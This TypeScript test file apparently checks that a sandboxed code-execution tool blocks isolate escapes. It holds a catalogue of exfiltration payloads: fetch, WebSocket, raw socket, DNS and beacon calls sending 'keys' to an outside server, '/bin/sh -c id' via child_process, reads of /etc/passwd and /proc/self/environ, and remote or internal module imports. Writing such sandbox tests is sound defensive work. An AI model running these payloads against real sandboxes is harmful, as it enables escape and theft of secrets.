import { type Attack, hold, type World } from "../world.ts";
import { type Agent, newAgent, savedAction } from "./mcp.ts";
import { MARK, type Outside, startOutside } from "./outside.ts";

/** Statements that wait for an event of a socket-like object `s`. */
const OPENED = `return await new Promise((done, fail) => {
  s.addEventListener("open", () => done("open")); s.addEventListener("message", () => done("open"));
  s.addEventListener("error", () => fail(new Error("closed"))); s.addEventListener("close", () => fail(new Error("closed"))); });`;

/** The same for streams of Node. */
const CONNECTED = `return await new Promise((done, fail) => {
  s.on("error", fail).on("close", () => fail(new Error("closed"))).on("secureConnect", () => done("open")).on("connect", () => done("open")); });`;

/** The response to a request of Node. */
const REQUESTED = `return await new Promise((done, fail) => { get(url, (response) => done(response.statusCode)).on("error", fail).end?.(); });`;

/** The time for one way: some wait forever. */
const TIMEOUT_MS = 3000;

/** Ways to a server. In their scope are its `url`, `host` and `port`; a program that finds no way throws. */
const NETWORKS: Record<string, string> = {
  fetch: `return (await fetch(url)).text();`,
  "fetch with a request object": `return (await fetch(new Request(url, { method: "POST", body: "keys" }))).text();`,
  "fetch of another function's realm": `return (await (new Function("return fetch"))()(url)).text();`,
  "fetch with an upgrade": `return (await fetch(url, { headers: { upgrade: "websocket" } })).status;`,
  "fetch by the host of actions": `return (await fetch("https://actions.invalid@" + host + ":" + port + "/")).text();`,
  "a redirect of the host of actions": `return (await fetch("https://actions.invalid/?url=" + encodeURIComponent(url), { headers: { host: host + ":" + port, "x-forwarded-host": host } })).text().then((text) => { if (!text.includes("${MARK}")) throw new Error(text); return text; });`,
  XMLHttpRequest: `const s = new XMLHttpRequest(); s.open("GET", url); s.send(); return "open";`,
  WebSocket: `const s = new WebSocket(url.replace("http", "ws")); ${OPENED}`,
  EventSource: `const s = new EventSource(url); ${OPENED}`,
  sendBeacon: `navigator.sendBeacon(url, "keys"); await new Promise((done) => setTimeout(done, 300)); throw new Error("nobody knows");`,
  "the default cache": `const hit = await caches.default.match(url); if (!hit) throw new Error("no hit"); return hit.text();`,
  "a cache of its own": `const cache = await caches.open("keys"); await cache.put(url, new Response("keys", { headers: { "cache-control": "max-age=60" } })); return "stored";`,
  "connect of cloudflare:sockets": `const { connect } = await import("cloudflare:sockets"); const s = connect({ hostname: host, port }); await s.opened; return "open";`,
  "mail of cloudflare:email": `const { EmailMessage } = await import("cloudflare:email"); return String(await new EmailMessage("a@example.com", "b@example.com", "keys").forward("b@example.com"));`,
  "node:net": `const net = await import("node:net"); const s = net.connect(port, host); ${CONNECTED}`,
  "node:tls": `const tls = await import("node:tls"); const s = tls.connect(port, host, { rejectUnauthorized: false }); ${CONNECTED}`,
  "node:http": `const { get } = await import("node:http"); ${REQUESTED}`,
  "node:https": `const https = await import("node:https"); const get = (to, done) => https.get(to.replace("http:", "https:"), { rejectUnauthorized: false }, done); ${REQUESTED}`,
  "node:http2": `const { connect } = await import("node:http2"); const s = connect(url); ${CONNECTED}`,
  "node:dgram": `const { createSocket } = await import("node:dgram"); const s = createSocket("udp4"); return await new Promise((done, fail) => s.send("keys", port, host, (error) => error ? fail(error) : done("sent")));`,
  "node:dns": `const dns = await import("node:dns/promises"); return await dns.resolveTxt("keys.example.com");`,
  "node:child_process": `const { execFileSync } = await import("node:child_process"); return String(execFileSync("/bin/sh", ["-c", "id"]));`,
  "node:worker_threads": `const { Worker } = await import("node:worker_threads"); new Worker("fetch(" + JSON.stringify(url) + ")", { eval: true }); return "started";`,
  "a Worker": `new Worker("data:text/javascript,fetch(" + JSON.stringify(url) + ")"); return "started";`,
  importScripts: `importScripts(url + "x.mjs"); return "imported";`,
  "files of the machine": `const fs = await import("node:fs"); return fs.readFileSync("/etc/passwd", "utf8");`,
  "the environment of the process": `const fs = await import("node:fs"); return fs.readFileSync("/proc/self/environ", "utf8");`,
  "streaming compilation": `await WebAssembly.compileStreaming(fetch(url)); return "compiled";`,
};

/** Modules that a program may not import: code from outside, and interfaces of the runtime. */
const MODULES: Record<string, string> = {
  "code by https": "`https://${host}:${port}/x.mjs`",
  "code by http": "`http://${host}:${port}/x.mjs`",
  "code by a data URL that fetches": `"data:text/javascript,export default await (await fetch('" + url + "')).text()"`,
  "code by a data URL that imports": `"data:text/javascript,export { default } from '" + url + "x.mjs'"`,
  "code by a blob": `URL.createObjectURL(new Blob(["export default '${MARK}'"], { type: "text/javascript" }))`,
  "a file": `"file:///etc/passwd"`,
  "a package": `"npm:left-pad"`,
  "cloudflare-internal:": `"cloudflare-internal:sockets"`,
  "node-internal:": `"node-internal:internal_net"`,
  "workerd:": `"workerd:unsafe"`,
  "cloudflare:test": `"cloudflare:test"`,
};

export const exfiltration: Attack[] = [
  ...Object.entries(NETWORKS).map(([way, code]) => leaving(`by ${way}`, code)),
  ...Object.entries(MODULES).map(([what, name]) =>
    leaving(`by an import of ${what}`, `return String((await import(${name})).default);`),
  ),
];

/** An attack by a program that must fail without reaching the server outside. */
function leaving(how: string, code: string): Attack {
  return {
    name: `a program does not leave its isolate ${how}`,
    async run(world) {
      const { agent, outside } = await stageOf(world);
      const before = outside.reached();
      const { content, failure } = await agent.tool("execute", { code: inScope(outside, code) });
      hold(content, `The program was refused: ${JSON.stringify(failure)}`);
      hold(content.result === null, `It returned ${JSON.stringify(content.result).slice(0, 200)}`);
      hold(content.error?.message, "It did not fail");
      hold(!JSON.stringify(content).includes(MARK), "Its result has the mark of the outside");
      hold(outside.reached() === before, "It reached the server outside");
    },
  };
}

function inScope({ host, port }: Outside, code: string): string {
  return `const host = "${host}", port = ${port}, url = "http://${host}:${port}/";
    const silence = new Promise((_, fail) => setTimeout(() => fail(new Error("silence")), ${TIMEOUT_MS}));
    return Promise.race([silence, (async () => { ${code} })()]);`;
}

type Stage = { agent: Agent; outside: Outside };

let stage: Promise<Stage> | undefined;

/** The server outside, and an agent whose actions reach it: the control of all these attacks. */
function stageOf(world: World): Promise<Stage> {
  stage ??= newStage(world);
  return stage;
}

async function newStage(world: World): Promise<Stage> {
  const [outside, { agent, tenant }] = [await startOutside(), await newAgent(world)];
  const key = await savedAction(tenant, { code: inScope(outside, NETWORKS["fetch"] ?? "") });
  const { content, text } = await agent.tool("execute", { code: `return run("${key}")` });
  hold(content?.result === MARK, `No action reaches the server: ${text.slice(0, 300)}`);
  hold(outside.reached() > 0, "The server counts nothing");
  return { agent, outside };
}
